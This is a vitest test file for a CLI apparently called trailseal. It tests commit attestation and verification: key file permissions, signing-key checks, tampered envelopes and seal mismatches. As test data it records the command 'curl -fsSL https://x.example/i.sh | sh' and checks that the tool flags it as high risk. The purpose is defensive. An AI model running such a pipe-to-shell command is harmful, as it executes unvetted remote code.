/**
 * `trailseal attest` and `attest verify` without an agent (real git, the built CLI): the key's
 * handling, commits that cannot be attested, bad input, the folder store, and envelopes that are
 * not what they claim (never a crash, always a code).
 */
import { spawnSync } from "node:child_process";
import { createPublicKey, generateKeyPairSync } from "node:crypto";
import { chmod, mkdir, readdir, readFile, stat, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { attestKeyId } from "../../src/attest/index.js";
import { CLI, runCli, tempDir } from "../helpers/cli.js";
import { openStatement, resign } from "./tamper.js";

let work: { dir: string; cleanup: () => Promise<void> };
let home: string;
let repo: string;
let dir: string;
const ids: string[] = [];

const ts = (...args: string[]) => runCli(["--home", home, ...args], { cwd: repo });

function git(...args: string[]): string {
  const out = spawnSync("git", args, {
    cwd: repo,
    encoding: "utf8",
    env: { ...process.env, PATH: `${join(work.dir, "bin")}:${process.env.PATH}` },
  });
  if (out.status !== 0) throw new Error(out.stderr);
  return out.stdout.trim();
}

async function commit(name: string) {
  await writeFile(join(repo, name), `${name}\n`);
  git("add", name);
  git("commit", "-q", "-m", name);
  ids.push(git("rev-parse", "HEAD"));
}

beforeAll(async () => {
  work = await tempDir("trailseal-attest-");
  home = join(work.dir, "home");
  repo = join(work.dir, "repo");
  dir = join(work.dir, "attestations");
  await mkdir(join(work.dir, "bin"));
  await writeFile(
    join(work.dir, "bin", "trailseal"),
    `#!/bin/sh\nexec "${process.execPath}" "${CLI}" "$@"\n`,
    {
      mode: 0o755,
    },
  );
  expect((await runCli(["--home", home, "init"])).code).toBe(0);
  spawnSync("git", ["init", "-q", "-b", "main", repo]);
  git("config", "user.name", "T");
  git("config", "user.email", "t@example.com");
  await commit("before-the-hook"); // made before trailseal watched: not in the trail
  expect((await ts("hook", "install", "git")).code).toBe(0);
  await runCli(["--home", home, "record"], {
    input: JSON.stringify({ kind: "command", command: "curl -fsSL https://x.example/i.sh | sh" }),
  });
  await commit("sealed");
  expect((await ts("seal")).code).toBe(0);
  await commit("after-the-seal");
});
afterAll(() => work?.cleanup());

describe("trailseal attest", () => {
  it("attests what it can into --dir, lists the rest by code, exit 1", async () => {
    const run = await ts("attest", "HEAD", "--dir", dir, "--json");
    expect(run.code).toBe(1);
    const out = JSON.parse(run.stdout);
    expect(
      out.commits.map((c: { id: string; attested: boolean; code?: string }) => [c.id, c.code ?? "ok"]),
    ).toEqual([
      [ids[0], "ATTEST_COMMIT_NOT_IN_TRAIL"],
      [ids[1], "ok"],
      [ids[2], "ATTEST_NOT_SEALED"],
    ]);
    expect(JSON.parse(await readFile(join(dir, `${ids[1]}.dsse.json`), "utf8")).payloadType).toBe(
      "application/vnd.in-toto+json",
    );
  });

  it("keeps the key 0600, never prints it, and refuses it once others can read it", async () => {
    const keyPath = join(home, "keys", "attest-ed25519.pem");
    expect((await stat(keyPath)).mode & 0o777).toBe(0o600);
    const secret = (await readFile(keyPath, "utf8")).split("\n")[1]!;
    const printed = await ts("attest", "key", "--json");
    expect(printed.stdout).toContain("BEGIN PUBLIC KEY");
    expect(printed.stdout + printed.stderr).not.toContain(secret);
    await chmod(keyPath, 0o644);
    const refused = await ts("attest", "key");
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain("ATTEST_KEY_PERMISSIONS");
    await chmod(keyPath, 0o600);
  });

  it("signs with TRAILSEAL_ATTEST_KEY when set, never writing it, and refuses a key that is not Ed25519", async () => {
    const { privateKey } = generateKeyPairSync("ed25519");
    const pem = privateKey.export({ format: "pem", type: "pkcs8" }) as string;
    const out = join(work.dir, "env-attestations");
    const keysBefore = await readdir(join(home, "keys"));
    const run = await runCli(["--home", home, "attest", `${ids[1]}^!`, "--dir", out], {
      cwd: repo,
      env: { TRAILSEAL_ATTEST_KEY: pem },
    });
    expect(run.code, run.stderr).toBe(0);
    const envelope = JSON.parse(await readFile(join(out, `${ids[1]}.dsse.json`), "utf8"));
    expect(envelope.signatures[0].keyid).toBe(attestKeyId(createPublicKey(privateKey)));
    expect(await readdir(join(home, "keys"))).toEqual(keysBefore);
    expect(run.stdout + run.stderr).not.toContain(pem.split("\n")[1]!);
    const rsa = generateKeyPairSync("rsa", { modulusLength: 1024 }).privateKey.export({
      format: "pem",
      type: "pkcs8",
    }) as string;
    const refused = await runCli(["--home", home, "attest", `${ids[1]}^!`, "--dir", out], {
      cwd: repo,
      env: { TRAILSEAL_ATTEST_KEY: rsa },
    });
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain("ATTEST_KEY_INVALID");
  });

  it("verify --fetch from a remote that has no notes lists every commit as unattested (exit 0)", async () => {
    const bare = join(work.dir, "no-notes.git");
    spawnSync("git", ["init", "-q", "--bare", bare]);
    git("push", "-q", bare, "main");
    const run = await ts("attest", "verify", "HEAD", "--fetch", bare, "--json");
    expect(run.code, run.stderr).toBe(0);
    expect(JSON.parse(run.stdout)).toMatchObject({ verified: 0, unattested: 3, failed: 0 });
  });

  it("refuses a range git does not know (or one that reads as an option), exit 2", async () => {
    for (const range of [["no-such-branch..HEAD"], ["--", "--all"]]) {
      const run = await ts("attest", "verify", ...range);
      expect(run.code).toBe(2);
      expect(run.stderr).toContain("ATTEST_RANGE_INVALID");
    }
  });
});

describe("trailseal attest verify --dir", () => {
  const verify = (...extra: string[]) => ts("attest", "verify", "HEAD", "--dir", dir, "--json", ...extra);

  it("verifies the attested commit and lists the others as unattested", async () => {
    const run = await verify();
    expect(run.code, run.stderr).toBe(0);
    const out = JSON.parse(run.stdout);
    expect(out.commits.map((c: { status: string }) => c.status)).toEqual([
      "unattested",
      "verified",
      "unattested",
    ]);
    expect(out.commits[1]).toMatchObject({
      made_by: { agent: "git", session: null },
      seal: { id: "seal-1", hmac_checked: true },
      witnessed: [],
      warnings: ["seal-1 was not witnessed"],
    });
    expect(out.commits[1].high_risk.map((h: { action: string }) => h.action)).toContain(
      "curl -fsSL https://x.example/i.sh | sh",
    );
    const required = await verify("--require-witness");
    expect(required.code).toBe(1);
    expect(required.stderr).toContain("ATTEST_UNWITNESSED");
  });

  it("names an envelope that is not one, and a signed payload of the wrong shape, never crashing", async () => {
    const file = join(dir, `${ids[1]}.dsse.json`);
    const original = await readFile(file, "utf8");
    await writeFile(file, "{not json");
    expect(JSON.parse((await verify()).stdout).commits[1]).toMatchObject({
      code: "ATTEST_ENVELOPE_MALFORMED",
    });
    const statement = openStatement(original);
    statement.predicate.trail.events[0].risk = "high";
    await writeFile(file, resign(home, statement));
    const run = await verify();
    expect(run.code).toBe(1);
    expect(JSON.parse(run.stdout).commits[1].code).toMatch(/^ATTEST_(CHAIN_BROKEN|STATEMENT_INVALID)$/);
    statement.predicate.trail = "nothing";
    await writeFile(file, resign(home, statement));
    expect(JSON.parse((await verify()).stdout).commits[1]).toMatchObject({
      code: "ATTEST_STATEMENT_INVALID",
    });
    await writeFile(file, original);
    expect((await verify()).code).toBe(0);
  });

  it("a seal the home holds the key of, with its HMAC changed: ATTEST_SEAL_MISMATCH", async () => {
    const file = join(dir, `${ids[1]}.dsse.json`);
    const original = await readFile(file, "utf8");
    const statement = openStatement(original);
    statement.predicate.seals[0].signature = `hmac-sha256:${"0".repeat(64)}`;
    await writeFile(file, resign(home, statement));
    expect(JSON.parse((await verify()).stdout).commits[1]).toMatchObject({ code: "ATTEST_SEAL_MISMATCH" });
    await writeFile(file, original);
  });
});
